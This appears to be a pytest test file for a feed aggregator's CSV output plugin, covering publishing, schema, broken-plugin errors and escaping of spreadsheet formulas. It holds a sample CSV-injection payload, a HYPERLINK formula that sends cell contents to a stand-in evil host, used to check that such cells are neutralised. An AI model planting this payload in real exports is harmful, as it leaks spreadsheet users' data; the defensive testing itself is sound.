"""An output format of another package: installed, it is checked, in the schema, published, linked and served."""

import csv
import importlib.util
import io
import json
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from support.plugins import EXAMPLES, feedhub, install_example

CONFIG = """site: {title: T, url: https://news.example.org}
output: {formats: [atom, csv]}
sources: [{name: wire, url: wire.xml, category: news}]
"""
EVIL = '=HYPERLINK("https://evil.example/?"&A1)'
FEED = f"""<rss version="2.0"><channel><title>Wire, "daily"</title><link>https://w.example/</link>
<item><title>芯片, "很贵"</title><link>https://w.example/1</link><pubDate>Mon, 23 Nov 2026 08:00:00 GMT</pubDate></item>
<item><title>{EVIL.replace("&", "&amp;")}</title><guid>2</guid><pubDate>Mon, 23 Nov 2026 07:00:00 GMT</pubDate></item>
</channel></rss>"""

Run = Callable[..., "tuple[int, str, str]"]


@pytest.fixture(scope="module")
def packages(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return install_example("csv_list", tmp_path_factory.mktemp("csv_list"))


@pytest.fixture
def run(tmp_path: Path, packages: Path) -> Run:
    (tmp_path / "wire.xml").write_text(FEED, encoding="utf-8")

    def run(*arguments: str, config: str = CONFIG, installed: Path = packages) -> tuple[int, str, str]:
        (tmp_path / "feedhub.yaml").write_text(config)
        ran = feedhub(*arguments, packages=installed, cwd=tmp_path)
        return ran.returncode, ran.stdout, ran.stderr

    return run


def table(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_a_category_is_published_as_a_table_and_linked_from_its_page_and_the_manifest(run: Run, tmp_path: Path) -> None:
    code, _, err = run("poll", "--all", "-c", "feedhub.yaml")
    assert code == 0, err
    head, first, second = table((tmp_path / "output" / "feeds" / "news.csv").read_bytes())
    assert head == ["published", "title", "link", "source", "categories", "id"]
    assert first[:5] == ["2026-11-23T08:00:00+00:00", '芯片, "很贵"', "https://w.example/1", 'Wire, "daily"', "news"]
    assert second[1] == "'" + EVIL
    manifest = json.loads((tmp_path / "output" / "feedhub.json").read_text("utf-8"))
    assert manifest["all"]["feeds"]["csv"] == "https://news.example.org/feeds/all.csv"
    page = (tmp_path / "output" / "category" / "news.html").read_text("utf-8")
    assert 'href="../feeds/news.csv"' in page
    assert "text/csv" in page
    assert "news.csv" not in (tmp_path / "output" / "feeds.opml").read_text("utf-8")


def test_tables_are_removed_with_the_format_even_when_its_package_is_gone(run: Run, tmp_path: Path) -> None:
    assert run("poll", "--all", "-c", "feedhub.yaml")[0] == 0
    without = CONFIG.replace(", csv", "")
    code, _, err = run("publish", "-c", "feedhub.yaml", config=without, installed=tmp_path / "nothing")
    assert code == 0, err
    feeds = sorted(path.name for path in (tmp_path / "output" / "feeds").iterdir())
    assert feeds == ["all.atom", "health.atom", "news.atom"]


def test_the_schema_shows_the_installed_format(run: Run) -> None:
    code, out, err = run("schema")
    assert (code, err) == (0, "")
    formats = json.loads(out)["$defs"]["OutputSection"]["properties"]["formats"]
    assert formats["items"]["enum"] == ["atom", "rss", "json", "csv"]


def test_a_format_that_is_not_installed_is_a_problem_at_its_place(run: Run, tmp_path: Path) -> None:
    code, out, _ = run("check", "-c", "feedhub.yaml", installed=tmp_path / "nothing")
    assert code == 2
    assert out.strip().endswith('output.formats[1]: expected atom, rss or json, found "csv"')
    code, out, _ = run("check", "-c", "feedhub.yaml", config=CONFIG.replace("csv", "csx"))
    assert out.strip().endswith('output.formats[1]: expected atom, rss, json or csv, found "csx"')


def package(folder: Path, modules: Mapping[str, str], entries: Mapping[str, str]) -> Path:
    """Write an installed package with these modules, and these entry points of the group of formats."""
    about = folder / "odd-1.0.dist-info"
    about.mkdir(parents=True)
    (about / "METADATA").write_text("Metadata-Version: 2.1\nName: odd\nVersion: 1.0\n")
    points = "".join(f"{name} = {place}\n" for name, place in entries.items())
    (about / "entry_points.txt").write_text(f"[feedhub.publishers]\n{points}")
    for module, text in modules.items():
        (folder / f"{module}.py").write_text(text)
    return folder


IMPORTS = "from feedhub.model.output import OutputFormat\n"
FORMAT = "FORMAT = OutputFormat(name={!r}, title='Odd', media_type={!r}, render=lambda view: {})\n"


BROKEN = {
    "odd1": ("import no_such_module", "odd1:FORMAT cannot be loaded: ModuleNotFoundError"),
    "odd2": ("x = 1 / 0", "odd2:FORMAT cannot be loaded: ZeroDivisionError"),
    "odd3": ("", "odd3:FORMAT cannot be loaded: AttributeError"),
    "odd4": ("FORMAT = 7", "offers something else than a format of the name odd4"),
    "odd5": (IMPORTS + FORMAT.format("other", "text/plain", "b''"), "something else than a format"),
    "o.d": (IMPORTS + FORMAT.format("o.d", "text/plain", "b''"), "declares the name 'o.d', which is not"),
    "odd7": (IMPORTS + FORMAT.format("odd7", "text\nx: y", "b''"), "which is no media type"),
    "odd8": (IMPORTS + FORMAT.format("odd8", 7, "b''"), "declares a title or a media type that is no text"),
}


def test_whatever_is_broken_in_a_package_is_a_problem_that_names_it(run: Run, tmp_path: Path) -> None:
    modules = {name.replace(".", ""): module for name, (module, _) in BROKEN.items()}
    entries = {name: f"{name.replace('.', '')}:FORMAT" for name in BROKEN}
    installed = package(tmp_path / "packages", modules, entries)
    listed = CONFIG.replace("csv", ", ".join(BROKEN))
    code, out, err = run("check", "-c", "feedhub.yaml", config=listed, installed=installed)
    assert (code, err) == (2, "")
    problems = out.splitlines()
    for number, (name, (_, reason)) in enumerate(BROKEN.items(), 1):
        told = f"output.formats[{number}]: {name} is no format that can be used: its plugin "
        (problem,) = [line for line in problems if told in line]
        assert reason in problem
    code, out, err = run("schema", installed=installed)
    assert code == 0
    assert {line.partition(", whose plugin ")[0] for line in err.splitlines()} == {
        f"left out: format {name}" for name in BROKEN
    }
    assert run("check", "-c", "feedhub.yaml", config=CONFIG.replace(", csv", ""), installed=installed)[0] == 0


@pytest.mark.parametrize(
    ("result", "reason"),
    [
        ("view.no_such_thing", "feeds/news.odd: the format odd failed: AttributeError"),
        ("int('x')", "feeds/news.odd: cannot be written as Odd: invalid literal"),
        ("'text'", "feeds/news.odd: the format odd gave str instead of bytes"),
    ],
)
def test_a_format_that_fails_costs_its_own_files_only(run: Run, tmp_path: Path, result: str, reason: str) -> None:
    module = IMPORTS + FORMAT.format("odd", "text/plain", result)
    installed = package(tmp_path / "packages", {"odd": module}, {"odd": "odd:FORMAT"})
    poll = "poll", "--all", "-c", "feedhub.yaml"
    code, out, err = run(*poll, config=CONFIG.replace("csv", "odd"), installed=installed)
    assert code == 1
    assert reason in out + err
    assert "Traceback" not in err
    assert (tmp_path / "output" / "feeds" / "news.atom").exists()
    assert not (tmp_path / "output" / "feeds" / "news.odd").exists()


def test_a_built_in_format_cannot_be_taken_over(run: Run, tmp_path: Path) -> None:
    module = IMPORTS + FORMAT.format("atom", "text/plain", "b'mine'")
    installed = package(tmp_path / "packages", {"odd": module}, {"atom": "odd:FORMAT"})
    assert "left out: format atom, whose plugin offers something else" in run("schema", installed=installed)[2]
    assert run("poll", "--all", "-c", "feedhub.yaml", config=CONFIG.replace(", csv", ""), installed=installed)[0] == 0
    assert (tmp_path / "output" / "feeds" / "news.atom").read_bytes().startswith(b"<?xml")


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("1 + 1 = 2", "1 + 1 = 2"),
        ("", ""),
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
    ],
)
def test_no_cell_is_a_formula(cell: str, shown: str) -> None:
    spec = importlib.util.spec_from_file_location("csv_list_of_the_examples", EXAMPLES / "csv_list" / "csv_list.py")
    assert spec
    assert spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module.as_text(cell) == shown
